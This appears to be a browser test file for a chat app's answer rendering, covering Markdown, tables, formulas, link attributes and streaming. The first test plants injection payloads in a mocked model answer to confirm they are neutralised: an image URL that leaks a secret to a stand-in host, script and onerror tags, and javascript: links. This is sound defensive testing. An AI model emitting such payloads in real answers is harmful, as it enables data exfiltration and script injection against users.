import assert from "node:assert/strict";
import { after, test } from "node:test";
import { answerWith, holdAnswer, openConversation } from "../support/browser/conversation-page.ts";
import { closeBrowser } from "../support/browser/open-page.ts";
import { startDocent } from "../support/start-docent.ts";

after(closeBrowser);

const EVIL = "https://evil.example";

test("nothing in an answer is run or loaded: no picture, script, frame or style, whatever it says", async (t) => {
  const docent = await startDocent(t);
  answerWith(
    docent.ollama,
    [
      `![secret](${EVIL}/pixel.png?q=secret) ![ref][r] [![nested](${EVIL}/nested.png)](${EVIL}/)`,
      `<img src="${EVIL}/html.png" onerror="document.title='run'"> <script>document.title='run'</script>`,
      `<iframe src="${EVIL}/frame"></iframe><style>body{display:none}</style><svg onload="document.title='run'"></svg>`,
      "[click me](javascript:document.title='run') [data](data:text/html,<script>1</script>) [here](/api/v1/pdfs)",
      `$\\href{javascript:document.title='run'}{x}$ $\\includegraphics{${EVIL}/tex.png}$ $\\htmlStyle{position:fixed}{y}$`,
      "",
      `[r]: ${EVIL}/reference.png`,
      "",
      "The end.",
    ].join("\n\n"),
  );
  const visit = await openConversation(t, docent.url);
  if (!visit) return;
  const { page, log } = visit;
  await visit.ask("Say something evil.");
  await visit.answers(1);
  await log.getByText("The end.").waitFor();
  await log.locator(".katex").first().waitFor();
  assert.equal(await log.locator("img, script, iframe, style, svg[onload], object, embed").count(), 0);
  const links = await log
    .getByRole("link")
    .evaluateAll((all: { getAttribute(name: string): string | null }[]) =>
      all.map((link) => ["href", "target", "rel"].map((name) => link.getAttribute(name))),
    );
  assert.ok(links.length >= 3);
  for (const [href, target, rel] of links) {
    assert.ok(href?.startsWith(`${EVIL}/`), String(href));
    assert.deepEqual([target, rel], ["_blank", "noopener noreferrer nofollow"]);
  }
  await log.getByText("click me").click();
  assert.equal(await page.title(), "Say something evil. · Docent");
  await log.getByText("<script>document.title='run'</script>").waitFor();
  visit.assertCalm();
});

test("a link says where it leads", async (t) => {
  const docent = await startDocent(t);
  answerWith(docent.ollama, "See [our bank](https://elsewhere.example/path?x=1).");
  const visit = await openConversation(t, docent.url);
  if (!visit) return;
  await visit.ask("Where?");
  await visit.answers(1);
  const link = visit.log.getByRole("link", { name: "our bank" });
  assert.equal(await link.getAttribute("title"), "https://elsewhere.example/path?x=1");
  visit.assertCalm();
});

test("tables, code, lists and formulas are set as such, and dollars stay money", async (t) => {
  const docent = await startDocent(t);
  answerWith(
    docent.ollama,
    [
      "# Title",
      "| Plan | Price |\n|---|---:|\n| Standard | $200 |\n| Plus | $300 |",
      "```py\nprint('$x$ and \\(y\\)')\n```",
      "1. one\n2. two",
      "Inline \\(a+b\\), $c^2$, and it costs $5 or $10. In code: `$x$`.",
      "\\[\n\\frac{1}{2}\n\\]",
      "$$E = mc^2$$",
    ].join("\n\n"),
  );
  const visit = await openConversation(t, docent.url);
  if (!visit) return;
  const { log } = visit;
  await visit.ask("Show me everything.");
  await visit.answers(1);
  await log.getByRole("heading", { name: "Title", level: 3 }).waitFor();
  await log.getByRole("cell", { name: "$200" }).waitFor();
  await log.getByRole("listitem").getByText("two").waitFor();
  await log.getByText("print('$x$ and \\(y\\)')").waitFor();
  await log.getByText("and it costs $5 or $10. In code:").waitFor();
  await log.locator(".katex").nth(3).waitFor();
  assert.equal(await log.locator(".katex").count(), 4);
  assert.equal(await log.locator(".katex-display").count(), 2);
  visit.assertCalm();
});

test("what is still open while an answer is written is shown as it is meant", async (t) => {
  const docent = await startDocent(t);
  answerWith(docent.ollama, {
    content: "x",
    pieces: ["Some **very", " important** words ", "and [a li", "nk](https://a.example)."],
  });
  const gate = holdAnswer(docent.ollama, 1);
  const visit = await openConversation(t, docent.url);
  if (!visit) return;
  await visit.ask("Hello?");
  await visit.log.getByRole("strong").getByText("very").waitFor();
  assert.equal(await visit.log.getByText("**").count(), 0);
  gate.release();
  await visit.answers(1);
  await visit.log.getByRole("link", { name: "a link" }).waitFor();
  visit.assertCalm();
});
